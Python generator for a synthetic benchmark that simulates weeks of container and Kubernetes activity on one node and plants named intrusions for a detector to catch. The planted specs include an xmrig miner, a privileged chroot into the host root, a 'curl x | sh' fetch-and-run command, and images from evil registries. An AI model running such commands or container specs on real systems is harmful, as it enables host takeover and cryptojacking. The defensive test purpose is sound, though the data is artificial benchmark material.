"""A made-up node over some weeks: what runs on it, what people do, and what an intruder does.

Everything follows from a seed. The node has compose services, Kubernetes deployments, DaemonSets
and CronJobs, timers, a CI runner and three people; a summer time ends in the month. Intrusions are
spread over the days after the learning week, one a day at most; each is named.

Benign: deploys by a pipeline, hot fixes and new services with a change, autoscaling, liveness and
out-of-memory restarts at any hour, crash loops that end, reboots, engine upgrades, timers of a
quarter of an hour, an hour, a day and a week with jitter, CI jobs with generated names and new
languages, people who debug by day, privileged DaemonSets that roll, evictions at night, a clock
that is set, new deployments that the scheduler places here.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, replace
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

from bench import life_events as made
from bench.life_events import IN_POD, Maker, Spec
from sensor.model.agent_records import HostFacts
from sensor.model.container import Orchestrator, Security
from sensor.model.events import Event, Initiator, PreviousRun
from sensor.model.vocabulary import ContainerId, Engine, StartKind, Trigger

SECOND = 1_000_000_000
MINUTE, HOUR, DAY = 60 * SECOND, 3600 * SECOND, 86_400 * SECOND
ZONE = ZoneInfo("Europe/Berlin")
LEARNING = 7
SAFE = "bcdfghjklmnpqrstvwxz2456789"
LANGUAGES = (
    "golang",
    "rust",
    "node",
    "python",
    "maven",
    "gradle",
    "ruby",
    "php",
    "alpine",
    "debian",
)
TOOLS = ("docker.io/library/busybox:1", "docker.io/library/alpine:3", "docker.io/library/debian:12")
PEOPLE = ("alice", "bob", "carol")
SURNAMES = ("bell", "curie", "darwin", "euler", "fermi", "gauss", "hopper", "joule")
MOODS = ("happy", "brave", "clever", "eager", "focused", "kind", "lucid", "quirky")


@dataclass(frozen=True, slots=True)
class Happening:
    """An event in its place. ``planted`` names the intrusion that it belongs to."""

    wall: int
    event: Event
    planted: str | None = None
    hidden: bool = False
    """Its engine never speaks of it."""
    change: str | None = None
    """A change that is recorded right before, for this workload."""


class Life:
    """The happenings of one node."""

    def __init__(self, seed: int, days: int = 35, *, early_intruder: bool = False) -> None:
        self.random = random.Random(seed)
        begin = datetime(2026, 10, 1, tzinfo=ZONE) + timedelta(days=seed % 20)
        self.begin = int(begin.timestamp()) * SECOND
        self.days = days
        host = HostFacts(
            f"node-{seed}", f"boot-{seed}-0", f"machine-{seed}", "6.1", None, ("apparmor",)
        )
        self.maker = Maker(host, self.begin - 40 * DAY)
        self.found: list[Happening] = []
        self.tags: dict[str, int] = {}
        self.early = early_intruder
        self.live: dict[str, ContainerId] = {}
        self._make_world()

    # ----------------------------------------------------------------- the world

    def _make_world(self) -> None:
        choose = self.random
        self.services = [
            self._compose(name, choose.choice(("shop", "base")))
            for name in ("web", "api", "db", "cache", "queue", "mail", "search", "proxy", "auth")
        ]
        self.services[2] = replace(self.services[2], security=made.mounting("/srv/db"))
        self.named = [
            Spec("registry-mirror", "docker.io/library/registry:2", ("registry", "serve")),
            Spec("watchtower", "ghcr.io/acme/watch:1", security=made.mounting("/run/docker.sock")),
            Spec("vpn", "ghcr.io/acme/vpn:3", security=made.capable("NET_ADMIN")),
        ]
        self.deployments = [
            (namespace, name, self._image(name))
            for namespace, names in (
                ("shop", ("front", "cart", "pay", "stock")),
                ("ops", ("grafana", "loki", "alert")),
            )
            for name in names
        ]
        self.daemons = [
            ("kube-proxy", "registry.k8s.io/kube-proxy:v1.34", made.privileged(IN_POD)),
            ("cni", "quay.io/cni/agent:1", made.privileged(IN_POD)),
            ("node-exporter", "quay.io/prometheus/node-exporter:1", made.mounting("/proc", IN_POD)),
            ("csi-node", "registry.k8s.io/sig-storage/csi:2", made.privileged(IN_POD)),
        ]

    def _image(self, name: str) -> str:
        return f"registry.example.com/shop/{name}:{self.tags.setdefault(name, 1)}"

    def _compose(self, name: str, project: str) -> Spec:
        labels = (
            ("com.docker.compose.project", project),
            ("com.docker.compose.service", name),
        )
        return Spec(f"{project}-{name}-1", self._image(name), labels=labels)

    def word(self, length: int, letters: str = SAFE) -> str:
        """Return letters as names are generated of."""
        return "".join(self.random.choice(letters) for _ in range(length))

    # ----------------------------------------------------------------- adding

    def add(
        self, wall: int, spec: Spec, by: Initiator | None, trigger: Trigger, **more: object
    ) -> Event:
        """Add a start; returns it. ``planted``, ``hidden`` and ``change`` go to the happening."""
        own = {key: more.pop(key) for key in ("planted", "hidden", "change") if key in more}
        event = self.maker.start(wall, spec, by, trigger, **more)  # type: ignore[arg-type]
        self.found.append(Happening(wall, event, **own))  # type: ignore[arg-type]
        return event

    def at(self, day: int, hour: float, spread: float = 0.0) -> int:
        """Return a local time of a day, in wall-clock ns."""
        moment = datetime.fromtimestamp(self.begin // SECOND, ZONE).replace(hour=0, minute=0)
        local = moment + timedelta(days=day)
        shift = self.random.uniform(-spread, spread)
        return int(local.timestamp()) * SECOND + int((hour + shift) * HOUR)

    def _weekday(self, day: int) -> int:
        return datetime.fromtimestamp(self.at(day, 12) // SECOND, ZONE).weekday()

    # ----------------------------------------------------------------- benign

    def happenings(self) -> list[Happening]:
        """Return all of it in its order."""
        self._first_day()
        for day in range(self.days):
            self._timers(day)
            self._ci(day)
            self._people(day)
            self._restarts(day)
            self._pods(day)
            self._deploys(day)
        self._rare()
        Intruder(self).act()
        self.found.sort(key=lambda one: one.wall)
        return self.found

    def _first_day(self) -> None:
        for number, spec in enumerate((*self.services, *self.named)):
            wall = self.at(0, 9 + number * 0.1)
            event = self.add(wall, spec, made.person("deploy", uid=1100), Trigger.USER_COMMAND)
            self._remember(spec, event)
        for number, name in enumerate(("etcd", "apiserver", "scheduler")):
            pod = Orchestrator("kubernetes", "kube-system", f"{name}-node", "e" * 32, name)
            spec = self.in_pod(pod, f"registry.k8s.io/{name}:v1.34", IN_POD)
            self.add(self.at(0, 8 + number * 0.01), spec, None, Trigger.ORCHESTRATOR)
        for name, image, security in self.daemons:
            self._daemon(self.at(0, 8.2, 0.1), name, image, security)
        for namespace, name, image in self.deployments:
            self._pod(self.at(0, 8.5, 0.2), namespace, name, image)

    def _remember(self, spec: Spec, event: Event) -> None:
        if event.container is not None and event.container.id is not None and spec.name:
            self.live[spec.name] = event.container.id

    def in_pod(self, pod: Orchestrator, image: str, security: Security = IN_POD) -> Spec:
        """Return the container of a pod."""
        return Spec(
            pod.container,
            image,
            ("/bin/run",),
            security=security,
            restart=None,
            pod=pod,
            runtime=Engine.CONTAINERD,
            namespace="k8s.io",
        )

    def _pod(self, wall: int, namespace: str, name: str, image: str, **more: object) -> Event:
        pod = Orchestrator(
            "kubernetes",
            namespace,
            f"{name}-{self.revision(image)}-{self.word(5)}",
            f"{self.word(8)}-{self.word(4)}",
            "main",
        )
        return self.add(wall, self.in_pod(pod, image), None, Trigger.ORCHESTRATOR, **more)

    def revision(self, image: str) -> str:
        """Return the hash of the ReplicaSet that an image belongs to."""
        return random.Random(image).choice(("7d4b9c6f5d", "5c8d7f9b44", "6f7b8c9d55")) + ""

    def _daemon(self, wall: int, name: str, image: str, security: Security) -> None:
        pod = Orchestrator(
            "kubernetes", "kube-system", f"{name}-{self.word(5)}", self.word(12), name
        )
        self.add(wall, self.in_pod(pod, image, security), None, Trigger.ORCHESTRATOR)

    def _timers(self, day: int) -> None:
        quarter = Spec(None, "registry.example.com/ops/sync:1", ("sync",), restart=None)
        for number in range(96):
            wall = self.at(day, number / 4, 0.01)
            spec = replace(quarter, name=f"sync-{self.word(12, '0123456789abcdef')}")
            self._run(wall, spec, made.service("sync.service"))
        for number in range(24):
            pod = Orchestrator(
                "kubernetes",
                "ops",
                f"report-{29_000_000 + day * 1440 + number * 60}-{self.word(5)}",
                self.word(12),
                "report",
            )
            image = "registry.example.com/ops/report:1"
            self.add(
                self.at(day, number, 0.02), self.in_pod(pod, image), None, Trigger.ORCHESTRATOR
            )
        backup = Spec(
            f"backup-{20261000 + day}",
            "registry.example.com/ops/backup:1",
            ("backup",),
            security=made.mounting("/srv/db"),
            restart=None,
        )
        self._run(self.at(day, 3, 0.2), backup, made.service("backup.service"))
        if self._weekday(day) == 6:  # noqa: PLR2004 - Sunday
            weekly = replace(backup, name="scrub", image="registry.example.com/ops/scrub:1")
            self._run(self.at(day, 4, 0.3), weekly, made.service("scrub.service"))

    def _run(self, wall: int, spec: Spec, by: Initiator, **more: object) -> None:
        trigger = Trigger.SERVICE_MANAGER if by.unit is not None else Trigger.USER_COMMAND
        event = self.add(wall, spec, by, trigger, **more)
        end = wall + self.random.randint(5, 400) * SECOND
        self.found.append(Happening(end, self.maker.stop(event, end)))

    def _ci(self, day: int) -> None:
        jobs = self.random.randint(4, 25) if self._weekday(day) < 5 else self.random.randint(0, 3)  # noqa: PLR2004
        known = min(len(LANGUAGES), 4 + day // 6)
        for _ in range(jobs):
            language = LANGUAGES[self.random.randrange(known)]
            project = self.random.randint(10, 40)
            token = self.word(8, "abcdefgh23456789")
            digest = self.word(16, "0123456789abcdef")
            spec = Spec(
                f"runner-{token}-project-{project}-concurrent-0-{digest}-build-2",
                f"docker.io/library/{language}:1",
                ("sh", "-c", "build"),
                restart="no",
            )
            if self.random.random() < 0.1:  # noqa: PLR2004
                spec = replace(
                    spec,
                    image="docker.io/library/docker:dind",
                    command=("dockerd-entrypoint.sh",),
                    security=made.privileged(),
                )
            self._run(self.at(day, 13, 5), spec, made.service("gitlab-runner.service"))

    def _people(self, day: int) -> None:
        if self._weekday(day) >= 5:  # noqa: PLR2004 - a weekend
            return
        for login in PEOPLE:
            uid = 1000 + PEOPLE.index(login)
            for _ in range(self.random.choice((0, 0, 1, 1, 2, 4))):
                wall = self.at(day, 13, 4)
                act = self.random.random()
                if act < 0.5:  # noqa: PLR2004
                    known = [spec.image for spec in self.services]
                    image = self.random.choice((*TOOLS, *known))
                    name = f"{self.random.choice(MOODS)}_{self.random.choice(SURNAMES)}"
                    spec = Spec(name, image, ("sh",), restart="no")
                    self._run(wall, spec, made.person(login, uid=uid))
                else:
                    self._touch(wall, self.random.choice(self.services), login, uid)

    def _touch(self, wall: int, spec: Spec, login: str, uid: int, **more: object) -> None:
        kind = self.random.choice((StartKind.RESTART, StartKind.REACTIVATION))
        self.add(
            wall,
            replace(spec, image=self._image_now(spec)),
            made.person(login, uid=uid),
            Trigger.USER_COMMAND,
            kind=kind,
            id_=self.live.get(spec.name or ""),
            dormant=30.0 if kind is StartKind.REACTIVATION else None,
            **more,
        )

    def _image_now(self, spec: Spec) -> str:
        name = spec.image.rpartition("/")[2].partition(":")[0]
        return self._image(name) if name in self.tags else spec.image

    def _restarts(self, day: int) -> None:
        for _ in range(self.random.choice((0, 0, 1, 1, 2, 3))):
            spec = self.random.choice(self.services)
            self._crash(self.at(day, 12, 12), spec)

    def _crash(self, wall: int, spec: Spec) -> None:
        self.add(
            wall,
            replace(spec, image=self._image_now(spec)),
            None,
            Trigger.RESTART_POLICY,
            kind=StartKind.RESTART,
            id_=self.live.get(spec.name or ""),
        )

    def _pods(self, day: int) -> None:
        for _ in range(self.random.randint(2, 20)):
            namespace, name, image = self.random.choice(self.deployments)
            event = self._pod(self.at(day, 12, 11), namespace, name, image)
            if self.random.random() < 0.2:  # noqa: PLR2004
                self._liveness(event)

    def _liveness(self, event: Event) -> None:
        container, pod = event.container, event.orchestrator
        if container is None or container.id is None or pod is None or container.image is None:
            return
        wall = event.time + self.maker.offset + self.random.randint(60, 9000) * SECOND
        previous = PreviousRun(container.id, signal=9)
        spec = self.in_pod(pod, container.image.name or "")
        self.add(
            wall,
            spec,
            None,
            Trigger.ORCHESTRATOR,
            kind=StartKind.RESTART,
            previous=previous,
            attempt=1,
        )

    def _deploys(self, day: int) -> None:
        if self._weekday(day) >= 5 or self.random.random() < 0.4:  # noqa: PLR2004
            return
        for spec in self.random.sample(self.services, 2):
            name = spec.image.rpartition("/")[2].partition(":")[0]
            self.tags[name] += 1
            fresh = replace(spec, image=self._image(name))
            change = f"CHG-{day}-{name}" if self.random.random() < 0.5 else None  # noqa: PLR2004
            by = made.person("deploy", uid=1100)
            event = self.add(self.at(day, 10.5, 1), fresh, by, Trigger.USER_COMMAND, change=change)
            self._remember(spec, event)
        for number, (namespace, name, image) in enumerate(self.deployments):
            if self.random.random() < 0.2:  # noqa: PLR2004
                self.tags[name] = self.tags.get(name, 1) + 1
                fresh_image = f"{image.rpartition(':')[0]}:{self.tags[name]}"
                self.deployments[number] = namespace, name, fresh_image
                self._pod(self.at(day, 11, 1), namespace, name, fresh_image)

    def _rare(self) -> None:
        choose = self.random
        for _ in range(2):
            spec, wall = choose.choice(self.services), self.at(choose.randrange(self.days), 12, 12)
            for number in range(choose.randint(5, 9)):
                self._crash(wall + number * 70 * SECOND, spec)
        self._boots()
        self._evictions()
        self._novelties()

    def _boots(self) -> None:
        choose = self.random
        for number in range(2):
            wall = self.at(choose.randrange(2, self.days), 6, 5)
            for spec in (*self.services, *self.named):
                self.add(
                    wall + choose.randint(20, 90) * SECOND,
                    replace(spec, image=self._image_now(spec)),
                    None,
                    Trigger.ENGINE_BOOT,
                    kind=StartKind.RESTART,
                    id_=self.live.get(spec.name or ""),
                )
            if number:
                for name, image, security in self.daemons:
                    self._daemon(wall + choose.randint(60, 200) * SECOND, name, image, security)

    def _evictions(self) -> None:
        choose = self.random
        for day in choose.sample(range(1, self.days), 4):
            wall = self.at(day, 3, 2)
            for namespace, name, image in choose.sample(self.deployments, 5):
                self._pod(wall + choose.randint(0, 60) * SECOND, namespace, name, image)
        for day in range(6, self.days, 7):
            for name, image, security in self.daemons:
                self._daemon(self.at(day, 14, 2), name, image, security)

    def _novelties(self) -> None:
        choose = self.random
        for number, day in enumerate(choose.sample(range(9, self.days), 3)):
            name = f"ledger{number}"
            self.tags[name] = 1
            spec = self._compose(name, "shop")
            by = made.person("deploy", uid=1100)
            self.add(self.at(day, 11, 1), spec, by, Trigger.USER_COMMAND, change=f"CHG-new-{name}")
        for number, day in enumerate(choose.sample(range(9, self.days), 3)):
            image = f"registry.example.com/shop/placed{number}:1"
            self._pod(self.at(day, 12, 8), "shop", f"placed{number}", image)
        for day in choose.sample(range(8, self.days), 2):
            spec = choose.choice(self.services)
            by = made.person("deploy", uid=1100)
            self.add(
                self.at(day, 23, 1),
                replace(spec, image=self._image_now(spec)),
                by,
                Trigger.USER_COMMAND,
                change=f"CHG-hot-{day}",
            )


class Intruder:
    """Plants each intrusion once, on days of its own."""

    def __init__(self, life: Life) -> None:
        self.life = life
        acts = [name.removeprefix("_plant_") for name in dir(self) if name.startswith("_plant_")]
        days = range(LEARNING + 2, life.days - 1)
        chosen = [life.random.choice(days) for _ in acts]
        self.plan = list(zip(acts, chosen, strict=True))
        if life.early:
            self.plan = [
                (name, life.random.randrange(2, 6) if name in {"new_person", "miner"} else day)
                for name, day in self.plan
            ]

    def act(self) -> None:
        """Plant all."""
        for name, day in self.plan:
            getattr(self, f"_plant_{name}")(day, name)

    def _add(self, day: int, name: str, spec: Spec, by: Initiator | None, **more: object) -> Event:
        hour = more.pop("hour", self.life.random.choice((2.0, 4.5, 11.0, 15.0, 22.0)))
        trigger = more.pop("trigger", Trigger.USER_COMMAND)
        wall = self.life.at(day, float(hour), 0.4)  # type: ignore[arg-type]
        return self.life.add(wall, spec, by, trigger, planted=name, **more)  # type: ignore[arg-type]

    def _plant_miner(self, day: int, name: str) -> None:
        by = made.account("www-data", 33, "/usr/sbin/apache2")
        spec = Spec("worker", "docker.io/xmrig/xmrig:6", ("xmrig",), restart="always")
        self._add(day, name, spec, by, trigger=Trigger.API_CLIENT)

    def _plant_privileged_root(self, day: int, name: str) -> None:
        spec = Spec(
            None,
            "docker.io/library/alpine:3",
            ("chroot", "/host"),
            security=replace(made.privileged(), mounts=made.mounting("/").mounts),
            restart="no",
        )
        self._add(day, name, spec, made.person("eve", uid=1900))

    def _plant_dormant(self, day: int, name: str) -> None:
        spec = Spec("old-batch", "registry.example.com/shop/web:1", ("/app/server",))
        self._add(
            day,
            name,
            spec,
            made.person("bob", uid=1001),
            kind=StartKind.REACTIVATION,
            dormant=40 * 86_400.0,
            hour=14.0,
        )

    def _plant_runc(self, day: int, name: str) -> None:
        spec = Spec("box", "registry.example.com/shop/web:1", ("sh",), runtime=Engine.CONTAINERD)
        self._add(
            day,
            name,
            replace(spec, namespace=None),
            made.person("carol", uid=1002),
            trigger=Trigger.DIRECT_RUNTIME,
        )

    def _plant_from_container(self, day: int, name: str) -> None:
        app = self.life.live.get("shop-web-1") or self.life.live.get("base-web-1")
        by = made.inside(app or ContainerId("f" * 64))
        spec = Spec("helper", "docker.io/library/alpine:3", ("sh",), restart="no")
        self._add(day, name, spec, by, trigger=Trigger.CONTAINER)

    def _plant_hidden(self, day: int, name: str) -> None:
        spec = Spec("web2", "registry.example.com/shop/web:1")
        self._add(day, name, spec, made.person("alice", uid=1000), hidden=True, hour=14.0)

    def _plant_false_kube_proxy(self, day: int, name: str) -> None:
        pod = Orchestrator("kubernetes", "kube-system", "kube-proxy-x7k2v", "u" * 12, "kube-proxy")
        spec = self.life.in_pod(pod, "docker.io/evil/kube-proxy:v1.34")
        self._add(day, name, spec, None, trigger=Trigger.ORCHESTRATOR)

    def _plant_privileged_service(self, day: int, name: str) -> None:
        spec = replace(self.life.services[4], security=made.privileged())
        self._add(day, name, spec, made.person("deploy", uid=1100), hour=11.0)

    def _plant_other_registry(self, day: int, name: str) -> None:
        spec = self.life.services[5]
        image = spec.image.replace("registry.example.com/shop", "registry.evil.example/shop")
        self._add(day, name, replace(spec, image=image), made.person("deploy", uid=1100), hour=11.0)

    def _plant_shell(self, day: int, name: str) -> None:
        spec = replace(self.life.services[6], command=("/bin/sh", "-c", "curl x | sh"))
        self._add(day, name, spec, made.person("deploy", uid=1100), hour=11.0)

    def _plant_sidecar(self, day: int, name: str) -> None:
        namespace, owner, image = self.life.deployments[0]
        revision = self.life.revision(image)
        pod = Orchestrator(
            "kubernetes", namespace, f"{owner}-{revision}-{self.life.word(5)}", "u" * 12, "logger"
        )
        spec = self.life.in_pod(pod, "docker.io/thirdparty/logger:1")
        self._add(day, name, spec, None, trigger=Trigger.ORCHESTRATOR)

    def _plant_kube_system_job(self, day: int, name: str) -> None:
        pod = Orchestrator("kubernetes", "kube-system", "cleanup-x7k2v", "u" * 12, "cleanup")
        spec = self.life.in_pod(pod, "docker.io/library/alpine:3")
        self._add(day, name, spec, None, trigger=Trigger.ORCHESTRATOR)

    def _plant_restart_always(self, day: int, name: str) -> None:
        spec = Spec("updater", "docker.io/library/alpine:3", ("sleep",), restart="always")
        self._add(day, name, spec, made.person("bob", uid=1001), hour=14.0)

    def _plant_web_account(self, day: int, name: str) -> None:
        by = made.service("php-fpm.service", "www-data", "/usr/bin/docker")
        spec = self.life.services[0]
        self._add(day, name, spec, by, kind=StartKind.RESTART, hour=3.0)

    def _plant_burst(self, day: int, name: str) -> None:
        wall = self.life.at(day, 14)
        for number in range(60):
            spec = Spec(f"load-{number}", "docker.io/library/busybox:1", ("yes",), restart="no")
            by = made.person("bob", uid=1001)
            self.life.add(wall + number * 3 * SECOND, spec, by, Trigger.USER_COMMAND, planted=name)

    def _plant_renamed_runtime(self, day: int, name: str) -> None:
        spec = replace(self.life.services[7], runtime_path="/tmp/.cache/helper")
        self._add(day, name, spec, made.person("deploy", uid=1100), hour=11.0)

    def _plant_new_unit(self, day: int, name: str) -> None:
        spec = Spec("metrics", "docker.io/library/alpine:3", ("sh", "-c", "x"), restart="no")
        by = made.service("systemd-netlogd.service")
        self._add(day, name, spec, by, trigger=Trigger.SERVICE_MANAGER)

    def _plant_new_person(self, day: int, name: str) -> None:
        by = made.person("mallory", uid=1777)
        self._add(day, name, self.life.services[1], by, kind=StartKind.RESTART, hour=14.0)
